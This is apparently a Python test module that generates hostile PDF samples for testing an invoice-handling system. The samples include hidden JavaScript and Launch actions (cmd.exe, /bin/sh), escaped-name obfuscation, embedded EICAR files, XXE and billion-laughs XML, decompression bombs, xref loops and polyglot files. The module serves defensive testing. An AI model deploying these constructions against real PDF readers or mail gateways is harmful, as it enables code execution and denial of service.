"""Hostile PDFs: active content in every hiding place, embedded files that may not be filed, bombs,
loops, damage of what a PDF cannot be read without, passwords, files that are two things at once."""

import io
import struct
import zlib
from random import Random
from typing import Any

import pikepdf

from tests.hostile import _xmls, _zips
from tests.hostile._hostile import EICAR, Bait, damaged, harmful, noise, sample, wrapped
from tests.hostile._pdf_builder import CONTENT, PAGE, PAGES, Pdf, hexed, packed, stream, text

_FILTERS = (
    (), ("FlateDecode",), ("ASCIIHexDecode",), ("ASCII85Decode", "FlateDecode"), ("FlateDecode", "FlateDecode"),
    ("RunLengthDecode",), ("ASCIIHexDecode", "ASCII85Decode", "FlateDecode"),
)  # fmt: skip


def _put(pdf: Pdf, action: bytes, rng: Random) -> None:
    """Hide an action somewhere in a PDF; indirectly, half the time."""
    if rng.random() < 0.5:
        action = pdf.add(action)
    if rng.random() < 0.3:  # behind a harmless one
        action = b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>" % rng.choice((action, b"[" + action + b"]"))
    place = rng.randrange(9)
    if place == 0:
        pdf.catalog += b"/OpenAction " + action
    elif place == 1:
        pdf.catalog += b"/AA<</%s %s>>" % (rng.choice((b"WC", b"WS", b"DS", b"WP", b"DP")), action)
    elif place == 2:
        pdf.page += b"/AA<</%s %s>>" % (rng.choice((b"O", b"C")), action)
    elif place == 3:
        pdf.catalog += b"/Names<</JavaScript<</Names[(a) %s]>>>>" % action
    elif place == 4:
        leaf = pdf.add(b"<</Limits[(a)(b)]/Names[(a) %s]>>" % action)
        pdf.catalog += b"/Names<</JavaScript<</Kids[%s]>>>>" % pdf.add(b"<</Kids[%s]>>" % leaf)
    elif place == 5:
        pdf.page += b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>]" % action
    elif place == 6:
        event = rng.choice((b"E", b"X", b"D", b"U", b"Fo", b"Bl", b"PO", b"PV"))
        widget = pdf.add(
            b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</%s %s>>>>"
            % (event, action)
        )
        pdf.page += b"/Annots[%s]" % widget
        pdf.catalog += b"/AcroForm<</Fields[%s]>>" % widget
    elif place == 7:
        field = pdf.add(
            b"<</FT/Tx/T(b)/AA<</%s %s>>>>" % (rng.choice((b"K", b"F", b"V", b"C")), action)
        )
        pdf.catalog += b"/AcroForm<</Fields[%s]>>" % pdf.add(b"<</T(p)/Kids[%s]>>" % field)
    else:
        item = pdf.add(b"<</Title(x)/A %s>>" % action)
        pdf.catalog += b"/Outlines %s" % pdf.add(b"<</First %s/Last %s/Count 1>>" % (item, item))


def _script(pdf: Pdf, rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    code = rng.choice(
        (f"app.launchURL('{url}')", f"this.submitForm('{url}')", "app.alert(1)", "while(1){}")
    ).encode()
    data, filters = packed(code, rng.choice(_FILTERS))
    return rng.choice(
        (
            text(code),
            hexed(b"\xfe\xff" + code.decode().encode("utf-16-be")),
            pdf.add_stream(data, filters),
            pdf.add(text(code)),
        )
    )


def javascript(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    name = rng.choice((b"/JavaScript", b"/Java#53cript", b"/#4a#61#76#61Script"))
    key = rng.choice((b"/JS", b"/J#53", b"/#4aS"))
    _put(pdf, b"<</S%s%s %s>>" % (name, key, _script(pdf, rng, bait)), rng)
    return pdf.build()


def launch(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    what = rng.choice(
        (b"/F(cmd.exe)", b"/F<</F(calc.exe)>>", b"/Win<</F(cmd.exe)/P(/c calc)>>", b"/Unix(/bin/sh)",
         b"/F" + text(bait.file), b"/F<</FS/URL/F" + text(rng.choice(bait.urls())) + b">>")
    )  # fmt: skip
    _put(pdf, b"<</S/%s%s/NewWindow true>>" % (rng.choice((b"Launch", b"L#61unch")), what), rng)
    return pdf.build()


def submit(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    kind = rng.choice((b"SubmitForm", b"ImportData", b"Submit#46orm"))
    _put(pdf, b"<</S/%s/F<</FS/URL/F%s>>/Flags 4>>" % (kind, text(rng.choice(bait.urls()))), rng)
    return pdf.build()


def rich_media(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    name, content = harmful(rng)
    asset = pdf.add(b"<</Type/Filespec/F%s/EF<</F %s>>>>" % (text(name), pdf.add_stream(content)))
    pdf.page += (
        b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a) %s]>>>>>>]"
        % asset
    )
    return pdf.build()


def rendition(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    _put(pdf, b"<</S/Rendition/OP 0/JS %s>>" % _script(pdf, rng, bait), rng)
    return pdf.build()


def in_object_stream(rng: Random, bait: Bait) -> bytes:
    """The same active content after qpdf has put every object into compressed object streams."""
    made = rng.choice((javascript, launch, submit, embedded))(rng, bait)
    return _rewritten(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def in_update(rng: Random, bait: Bait) -> bytes:
    """An innocent PDF whose catalogue is replaced by an incremental update."""
    base = sample("plain-invoice.pdf")
    with pikepdf.open(io.BytesIO(base)) as opened:
        number, pages = opened.Root.objgen[0], opened.Root.Pages.objgen[0]
    action = rng.choice(
        (
            b"/S/JavaScript/JS(app.alert\\(1\\))",
            b"/S/Launch/F(cmd.exe)",
            b"/S/SubmitForm/F(http://x)",
        )
    )
    at = len(base)
    update = b"%d 0 obj\n<</Type/Catalog/Pages %d 0 R/OpenAction<<%s>>>>\nendobj\n" % (
        number,
        pages,
        action,
    )
    previous = int(base[base.rindex(b"startxref") + 9 :].split()[0])
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size 99/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return base + update + table % (number, at, number, previous, at + len(update))


def _rewritten(content: bytes, **options: object) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as opened:
        opened.save(buffer, static_id=True, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def _attach(pdf: Pdf, rng: Random, name: str, content: bytes) -> None:
    """Embed a file in one of the places that files are embedded in."""
    data, filters = packed(content, rng.choice(_FILTERS))
    file = pdf.add_stream(data, b"/Type/EmbeddedFile" + filters)
    key = rng.choice((b"F", b"UF", b"F", b"DOS", b"Unix", b"Mac"))
    spec = b"<</Type/Filespec/%s%s/F%s/EF<</%s %s>>>>" % (b"UF", text(name), text(name), key, file)
    spec = pdf.add(spec) if rng.random() < 0.7 else spec
    place = rng.randrange(6)
    if place == 0:
        pdf.catalog += b"/Names<</EmbeddedFiles<</Names[(a) %s]>>>>" % spec
    elif place == 1:
        leaf = pdf.add(b"<</Limits[(a)(b)]/Names[(a) %s]>>" % spec)
        pdf.catalog += b"/Names<</EmbeddedFiles<</Kids[%s]>>>>" % leaf
    elif place == 2:
        pdf.catalog += b"/AF[%s]" % spec
    elif place == 3:
        pdf.page += b"/AF %s" % spec
    elif place == 4:
        pdf.page += b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS %s>>]" % spec
    else:
        pdf.catalog += b"/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(a) %s]>>>>" % spec


def embedded(rng: Random, bait: Bait) -> bytes:
    """A program or malware embedded, in any place, through any filter."""
    pdf = Pdf()
    _attach(pdf, rng, *harmful(rng))
    return pdf.build()


def embedded_wrapped(rng: Random, bait: Bait) -> bytes:
    """What is embedded is an archive, a PDF or an invoice that is hostile itself."""
    pdf = Pdf()
    name, shape = rng.choice(
        (("a.zip", _zips.eicar), ("a.zip", _zips.overlap_same_file), ("a.zip", _zips.ratio_bomb), ("a.pdf", javascript),
         ("factur-x.xml", _xmls.embedded_malware), ("a.zip", _zips.encrypted), ("a.pdf", launch))
    )  # fmt: skip
    _attach(pdf, rng, name, shape(rng, bait))
    return pdf.build()


def hostile_invoice(rng: Random, bait: Bait) -> bytes:
    """The invoice data inside are hostile XML."""
    pdf = Pdf()
    shape = rng.choice(
        (
            _xmls.external_entity,
            _xmls.laughs,
            _xmls.external_dtd,
            _xmls.wrong_sum,
            _xmls.xinclude,
            _xmls.parameter_entity,
        )
    )
    _attach(
        pdf,
        rng,
        rng.choice(("factur-x.xml", "zugferd-invoice.xml", "xrechnung.xml")),
        shape(rng, bait),
    )
    return pdf.build()


def two_invoices(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    pair = [
        ("factur-x.xml", sample("cii-invoice.xml")),
        ("xrechnung.xml", sample("ubl-invoice.xml")),
    ]
    rng.shuffle(pair)
    specs = [
        pdf.add(b"<</Type/Filespec/F%s/EF<</F %s>>>>" % (text(name), pdf.add_stream(content)))
        for name, content in pair
    ]
    pdf.catalog += b"/AF[%s]/Names<</EmbeddedFiles<</Names[(a) %s]>>>>" % tuple(specs)
    return pdf.build()


def name_tree_loop(rng: Random, bait: Bait) -> bytes:
    """A tree of names that bites its tail, with malware among the leaves."""
    pdf = Pdf()
    spec = pdf.add(b"<</Type/Filespec/F(a)/EF<</F %s>>>>" % pdf.add_stream(EICAR))
    number = max(pdf.objects) + 1
    own = b"%d 0 R" % number
    pdf.objects[number] = b"<</Kids[%s %s]/Names[(a) %s]>>" % (own, own, spec)
    pdf.catalog += b"/Names<</EmbeddedFiles %s>>" % own
    return pdf.build()


def page_tree_loop(rng: Random, bait: Bait) -> bytes:
    """No page can be reached: the tree is a loop, empty, or of something else."""
    pdf = Pdf()
    pdf.objects[PAGES] = rng.choice(
        (b"<</Type/Pages/Kids[2 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2147483647>>",
         b"<</Type/Pages/Kids[6 0 R]/Count 1>>", b"<</Type/Pages/Kids[]/Count 0>>", b"<</Type/Pages>>", b"null", b"2 0 R",
         b"[2 0 R]", b"<</Type/Pages/Kids[99 0 R]/Count 1>>", b"<</Type/Pages/Kids 2 0 R/Count -1>>")
    )  # fmt: skip
    pdf.objects[6] = b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"
    pdf.objects[PAGE] = b"null"
    return pdf.build()


def many_pages(rng: Random, bait: Bait) -> bytes:
    """Thousands of pages: the same one, again and again."""
    pdf = Pdf()
    count = rng.randint(2001, 6000)
    kids = b" ".join(
        pdf.add(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>") for _ in range(count)
    )
    pdf.objects[PAGES] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return pdf.build()


def deep_arrays(rng: Random, bait: Bait) -> bytes:
    """Arrays in arrays in arrays; a script is at the bottom, or beside."""
    pdf = Pdf()
    depth = rng.choice((100, 400, 5000, 50_000))
    opening, closing = rng.choice(((b"[", b"]"), (b"<</A", b">>")))
    pdf.catalog += b"/Deep %s" % pdf.add(opening * depth + b"[]" + closing * depth)
    pdf.catalog += b"/OpenAction<</S/JavaScript/JS(1)>>"
    return pdf.build()


def cut(rng: Random, bait: Bait) -> bytes:
    """The end is missing, and with it the page."""
    whole = Pdf().build()
    return whole[: rng.randint(20, whole.index(b"\n3 0 obj"))]


def cut_sample(rng: Random, bait: Bait) -> bytes:
    whole = sample(rng.choice(("factur-x-en16931.pdf", "factur-x-basic.pdf")))
    return whole[: rng.randint(100, len(whole) // 2)]


def no_catalog(rng: Random, bait: Bait) -> bytes:
    """What a PDF cannot be read without is gone: its catalogue, its pages, all its objects."""
    pdf = Pdf()
    pdf.objects[1] = rng.choice(
        (b"null", b"<<>>", b"<</Type/Catalog>>", b"[]", b"(x)", b"<</Type/Catalog/Pages null>>")
    )
    pdf.objects[PAGES] = pdf.objects[PAGE] = b"null"
    return pdf.build()


def only_header(rng: Random, bait: Bait) -> bytes:
    return rng.choice(
        (b"%PDF-1.7", b"%PDF-1.7\n%%EOF", b"%PDF-1.4\n" + noise(rng, 900), b"%PDF-", b"%PDF-1.7\nxref\n0 0\ntrailer\n<<>>\nstartxref\n0\n%%EOF",
         b"%PDF-1.7\n" + b"\0" * 3000, b"%PDF-1.7\nstartxref\n99999999999999\n%%EOF")
    )  # fmt: skip


def xref_loop(rng: Random, bait: Bait) -> bytes:
    """Cross-reference tables that point at each other; active content makes sure of the rest."""
    pdf = Pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")
    made = pdf.build()
    start = int(made[made.rindex(b"startxref") + 9 :].split()[0])
    lie = rng.choice(
        (
            b"/Prev %d" % start,
            b"/Prev 0",
            b"/Prev 99999999",
            b"/Prev -1",
            b"/XRefStm %d" % start,
            b"/Prev 1 0 R",
            b"/Size 2147483647",
        )
    )
    return made.replace(b"trailer\n<<", b"trailer\n<<" + lie, 1)


def xref_chain(rng: Random, bait: Bait) -> bytes:
    """Thousands of updates, each pointing at the one before."""
    made = Pdf(catalog=b"/OpenAction<</S/JavaScript/JS(1)>>").build()
    previous = int(made[made.rindex(b"startxref") + 9 :].split()[0])
    out = bytearray(made)
    for _ in range(rng.randint(100, 2500)):
        at = len(out)
        out += b"xref\n0 0\ntrailer\n<</Size 9/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            previous,
            at,
        )
        previous = at
    return bytes(out)


def wrong_xref(rng: Random, bait: Bait) -> bytes:
    """The table points nowhere: readers rebuild it and must find the script that is there."""
    pdf = Pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
    made = bytearray(pdf.build())
    at = made.rindex(b"xref\n0")
    if rng.random() < 0.5:
        made[at + 9 : at + 60] = bytes(rng.choice(b"0123456789 fn\n") for _ in range(51))
    else:
        end = made.rindex(b"startxref") + 10
        made[end : end + 3] = b"%03d" % rng.randrange(1000)
    return bytes(made)


def _rc4(rng: Random) -> dict[str, Any]:
    """Return one of the ciphers that need no random octets: the file is the same at each run."""
    revision = rng.choice((2, 3, 4))
    return {"R": revision, "aes": False, "metadata": False}


def encrypted(rng: Random, bait: Bait) -> bytes:
    """A password opens it, which nobody here has."""
    if rng.random() < 0.3:
        return sample("protected.pdf")
    lock = pikepdf.Encryption(user="geheim", owner="o", **_rc4(rng))
    return _rewritten(sample("plain-invoice.pdf"), encryption=lock)


def encrypted_openly(rng: Random, bait: Bait) -> bytes:
    """Encrypted with the empty password, which everybody has: what is inside is malware or active."""
    made = rng.choice((javascript, launch, submit, embedded))(rng, bait)
    lock = pikepdf.Encryption(user="", owner="o", **_rc4(rng))
    return _rewritten(made, encryption=lock)


def odd_encryption(rng: Random, bait: Bait) -> bytes:
    """A security handler that does not exist, or makes no sense."""
    pdf = Pdf()
    entry = rng.choice(
        (b"<</Filter/Foo/V 1>>", b"<</Filter/Standard/V 99/R 99/O(x)/U(y)/P 0>>", b"<</Filter/Standard>>", b"<</Filter/Adobe.PubSec/V 4>>",
         b"<</Filter/Standard/V 2/R 3/Length 128/O<00>/U<00>/P -4>>", b"<</Filter/Standard/V 5/R 6/O(x)/U(y)/OE(x)/UE(y)/P -4>>")
    )  # fmt: skip
    pdf.trailer = b"/Encrypt %s/ID[(a)(a)]" % pdf.add(entry)
    return pdf.build()


def with_archive(rng: Random, bait: Bait) -> bytes:
    """A PDF that is a ZIP as well: who opens the one does not see the other."""
    archive = rng.choice((_zips.eicar, _zips.program, _zips.encrypted))(rng, bait)
    made = Pdf().build()
    return rng.choice((made + archive, archive + made, archive + made + archive))


def with_front(rng: Random, bait: Bait) -> bytes:
    """A program, a page or malware whose first kilobyte has a PDF header."""
    front = rng.choice(
        (sample("setup.exe")[:400] + bytes(100), EICAR + b"\n", b"<html><script>alert(1)</script>\n", b"#!/bin/sh\nreboot\n",
         b"\x7fELF\x02\x01\x01" + bytes(90), b"MZ" + bytes(300), b"Rar!\x1a\x07\0" + bytes(40))
    )  # fmt: skip
    return front + Pdf(catalog=b"/OpenAction<</S/JavaScript/JS(1)>>").build()


def other_file(rng: Random, bait: Bait) -> bytes:
    return rng.choice(
        (b"<html><script>location='x'</script></html>", sample("setup.exe"), EICAR, b"x", b"", noise(rng, 700), b"\x89PNG but not really",
         b"%!PS-Adobe-3.0\n(x) run\n", b"{\\rtf1 \\object}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900))
    )  # fmt: skip


def wrong_streams(rng: Random, bait: Bait) -> bytes:
    """Lengths, filters and parameters that lie, around malware."""
    pdf = Pdf()
    data, entry = packed(EICAR, ("FlateDecode",))
    extra, length = rng.choice(
        ((b"", 0), (b"", 1 << 40), (b"", -1), (b"/DecodeParms<</Predictor 12/Columns 1>>", None),
         (b"/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32>>", None), (b"/F(x)", None), (b"/DL 99999999", None))
    )  # fmt: skip
    file = pdf.add_stream(data, entry + extra, length)
    pdf.catalog += (
        b"/AF[<</Type/Filespec/F(a.pdf)/EF<</F %s>>>>]/OpenAction<</S/Launch/F(a)>>" % file
    )
    return pdf.build()


def many_filters(rng: Random, bait: Bait) -> bytes:
    """A file under tens of filters, and a script in case nobody wants to unwrap it."""
    pdf = Pdf(catalog=b"/OpenAction<</S/JavaScript/JS(1)>>")
    _, content = harmful(rng)
    chain = ("FlateDecode", "RunLengthDecode") * rng.randint(5, 30)
    data, filters = packed(content, chain)
    file = pdf.add_stream(data, filters)
    pdf.catalog += b"/AF[<</Type/Filespec/F(a.pdf)/EF<</F %s>>>>]" % file
    return pdf.build()


def looping_objects(rng: Random, bait: Bait) -> bytes:
    """Lengths, parents, outlines and object streams that refer to themselves; with a script."""
    pdf = Pdf(catalog=b"/OpenAction<</S/JavaScript/JS(1)>>")
    number = 6
    pdf.objects[number] = rng.choice(
        (b"6 0 R", b"<</Length 6 0 R>>\nstream\nx\nendstream", b"<</First 6 0 R/Next 6 0 R/Prev 6 0 R/Last 6 0 R/Title(x)>>",
         b"<</Type/ObjStm/N 1/First 4/Extends 6 0 R/Length 9>>\nstream\n6 0 6 0 R\nendstream", b"<</Parent 6 0 R/Kids[6 0 R]>>")
    )  # fmt: skip
    pdf.catalog += rng.choice(
        (
            b"/Outlines 6 0 R",
            b"/AcroForm<</Fields[6 0 R]>>",
            b"/X 6 0 R",
            b"/Metadata 6 0 R",
            b"/StructTreeRoot 6 0 R",
        )
    )
    return pdf.build()


def page_bomb(rng: Random, bait: Bait) -> bytes:
    """A page whose drawing is hundreds of megabytes, once or twice compressed."""
    pdf = Pdf()
    data = _flate_bomb(rng.randint(150, 400), twice=rng.random() < 0.5)
    pdf.objects[CONTENT] = stream(*data)
    return pdf.build()


def _flate_bomb(megabytes: int, *, twice: bool) -> tuple[bytes, bytes]:
    squeeze = zlib.compressobj(9)
    block = b"0 0 m\n" * 174_763
    data = b"".join(squeeze.compress(block) for _ in range(megabytes)) + squeeze.flush()
    if twice:
        return zlib.compress(data, 9), b"/Filter[/FlateDecode/FlateDecode]"
    return data, b"/Filter/FlateDecode"


def file_bomb(rng: Random, bait: Bait) -> bytes:
    """An embedded invoice of hundreds of megabytes."""
    pdf = Pdf()
    data, entry = _flate_bomb(rng.randint(110, 400), twice=rng.random() < 0.5)
    file = pdf.add_stream(data, entry)
    pdf.catalog += b"/AF[<</Type/Filespec/F(factur-x.xml)/EF<</F %s>>>>]" % file
    return pdf.build()


def lzw_bomb(rng: Random, bait: Bait) -> bytes:
    """LZW and run lengths of zeros: small files that are megabytes, with a script beside them."""
    pdf = Pdf(catalog=b"/OpenAction<</S/JavaScript/JS(1)>>")
    runs = bytes([129, 0]) * rng.randint(200_000, 900_000) + b"\x80"
    data, entry = rng.choice(
        ((runs, b"/Filter/RunLengthDecode"), (zlib.compress(runs, 9), b"/Filter[/FlateDecode/RunLengthDecode]"),
         (_lzw_zeros(), b"/Filter/LZWDecode"), (b"z" * 3_000_000 + b"~>", b"/Filter/ASCII85Decode"))
    )  # fmt: skip
    file = pdf.add_stream(data, entry)
    pdf.catalog += b"/AF[<</Type/Filespec/F(a.bin)/EF<</F %s>>>>]" % file
    return pdf.build()


def _lzw_zeros() -> bytes:
    """Return LZW codes (9 to 12 bits) that each stand for one zero more than the one before."""
    bits, table, width = ["100000000"], 258, 9
    for _ in range(60):
        bits += [format(0, f"0{width}b")]
        for code in range(258, 4094):
            table = code + 1
            width = 9 if table < 511 else 10 if table < 1023 else 11 if table < 2047 else 12
            bits.append(format(code, f"0{width}b"))
        bits.append(format(256, f"0{width}b"))
        width = 9
    joined = "".join(bits)
    return int(joined.ljust(-(-len(joined) // 8) * 8, "0"), 2).to_bytes(-(-len(joined) // 8), "big")


def object_stream_bomb(rng: Random, bait: Bait) -> bytes:
    """The catalogue stands in an object stream that inflates to hundreds of megabytes."""
    inner = b"6 0 <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>"
    squeeze = zlib.compressobj(9)
    packed_ = squeeze.compress(inner) + b"".join(
        squeeze.compress(b" " * (1 << 20)) for _ in range(rng.randint(100, 300))
    )
    packed_ += squeeze.flush()
    head = b"%PDF-1.7\n"
    box = (
        b"1 0 obj\n"
        + stream(packed_, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
        + b"\nendobj\n"
    )
    pages = b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
    page = b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    starts = [len(head), len(head + box), len(head + box + pages)]
    rows = (
        struct.pack(">BHB", 0, 0, 0) + b"".join(struct.pack(">BLB", 1, at, 0) for at in starts)[:0]
    )
    rows = b"".join(
        struct.pack(">BLB", *row)
        for row in ((0, 0, 0), *((1, at, 0) for at in starts), (0, 0, 0), (0, 0, 0), (2, 1, 0))
    )
    at = len(head + box + pages + page)
    table = b"7 0 obj\n" + stream(rows, b"/Type/XRef/W[1 4 1]/Size 7/Root 6 0 R") + b"\nendobj\n"
    return head + box + pages + page + table + b"startxref\n%d\n%%%%EOF\n" % at


def million_objects(rng: Random, bait: Bait) -> bytes:
    """More objects than any invoice has."""
    pdf = Pdf()
    many = b" ".join(b"<<>>" for _ in range(rng.randint(310_000, 500_000)))
    pdf.catalog += b"/X %s" % pdf.add(b"[" + many + b"]")
    return pdf.build()


SHAPES = (
    javascript, launch, submit, rich_media, rendition, in_object_stream, in_update, embedded,
    embedded_wrapped, hostile_invoice, two_invoices, name_tree_loop, page_tree_loop, many_pages, cut,
    cut_sample, no_catalog, only_header, xref_loop, xref_chain, wrong_xref, encrypted, encrypted_openly,
    odd_encryption, with_archive, with_front, other_file, wrong_streams, many_filters, looping_objects,
    javascript, launch, submit, embedded,
)  # fmt: skip
HEAVY = (page_bomb, file_bomb, lzw_bomb, object_stream_bomb, million_objects, deep_arrays)


def damaged_pdf(rng: Random, bait: Bait) -> bytes:
    return damaged(
        rng, sample(rng.choice(("factur-x-basic.pdf", "plain-invoice.pdf", "terms.pdf")))
    )


def damaged_objects(rng: Random, bait: Bait) -> bytes:
    return damaged(rng, Pdf().build())


DAMAGED = (damaged_pdf, damaged_objects)


def mail(rng: Random, content: bytes) -> bytes:
    """Return the mail that brings a PDF."""
    kind = rng.choice(("application/pdf", "application/octet-stream"))
    return wrapped(rng, rng.choice(("facture.pdf", "FACTURE.PDF", "2026-0455.pdf")), content, kind)
